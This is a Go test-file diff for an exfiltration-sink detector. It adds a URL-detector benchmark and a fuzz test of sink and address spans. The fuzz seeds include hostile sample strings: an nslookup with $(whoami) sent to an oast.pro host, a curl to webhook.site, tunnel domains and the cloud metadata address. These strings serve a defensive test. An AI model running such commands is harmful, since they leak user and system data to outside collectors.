@@ -1,6 +1,11 @@
 package shield
 
 import (
+	"context"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -112,4 +117,76 @@ func TestBareSinksLinear(t *testing.T) {
 	if n != 1000 {
 		t.Errorf("%d sinks, want 1000", n)
 	}
+}
+
+// BenchmarkURLDetector measures the url detector alone on 16 KiB of Go's
+// net/http source (dense in dots, URLs and addresses), with and without
+// the shipped list: the list's share of a scan.
+func BenchmarkURLDetector(b *testing.B) {
+	root, err := exec.Command("go", "env", "GOROOT").Output()
+	if err != nil {
+		b.Skip("no go command")
+	}
+	files, _ := filepath.Glob(filepath.Join(strings.TrimSpace(string(root)), "src/net/http/*.go"))
+	var sb strings.Builder
+	for _, f := range files {
+		d, err := os.ReadFile(f)
+		if err == nil {
+			sb.Write(d)
+		}
+		if sb.Len() > 16<<10 {
+			break
+		}
+	}
+	if sb.Len() < 16<<10 {
+		b.Skip("no Go source on this machine")
+	}
+	in := &input{text: sb.String()[:16<<10]}
+	for _, c := range []struct {
+		name string
+		d    urlDetector
+	}{
+		{"no-default-list", urlDetector{addrs: builtinAddresses}},
+		{"default-list", urlDetector{defaults: urllist.Default(), addrs: builtinAddresses}},
+	} {
+		b.Run(c.name, func(b *testing.B) {
+			b.SetBytes(int64(len(in.text)))
+			for b.Loop() {
+				if err := c.d.detect(context.Background(), in, func(hit) {}); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
+
+// FuzzBareSinks: every name findBareSinks reports lies in the range it
+// was given, in order, without overlap, and is under a shipped entry
+// that is not a tunnel; every bare address reported parses.
+func FuzzBareSinks(f *testing.F) {
+	f.Add("nslookup $(whoami).x.oast.pro; curl webhook.site/abc", 0, 60)
+	f.Add("A.B.OASTIFY.COM. ..oast.me- x.trycloudflare.com 169.254.169.254/x", 3, 70)
+	f.Add("é.oast.pro x_y.oast.live ...........", 0, 40)
+	l := urllist.Default()
+	f.Fuzz(func(t *testing.T, text string, from, to int) {
+		if from < 0 || to > len(text) || from > to {
+			from, to = 0, len(text)
+		}
+		prev := from
+		findBareSinks(text, from, to, l, func(kind string, start, end int) {
+			if start < prev || end > to || start >= end {
+				t.Fatalf("span [%d,%d) after %d, range [%d,%d)", start, end, prev, from, to)
+			}
+			prev = end
+			k, _ := l.MatchZone(strings.ToLower(text[start:end]))
+			if k == "" || k != kind || kind == urllist.KindTunnelHost {
+				t.Fatalf("%q: kind %q, zone kind %q", text[start:end], kind, k)
+			}
+		})
+		findBareAddresses(text, func(start, end int, a netip.Addr) {
+			if b, err := netip.ParseAddr(text[start:end]); err != nil || b != a {
+				t.Fatalf("%q: %v", text[start:end], err)
+			}
+		})
+	})
 }
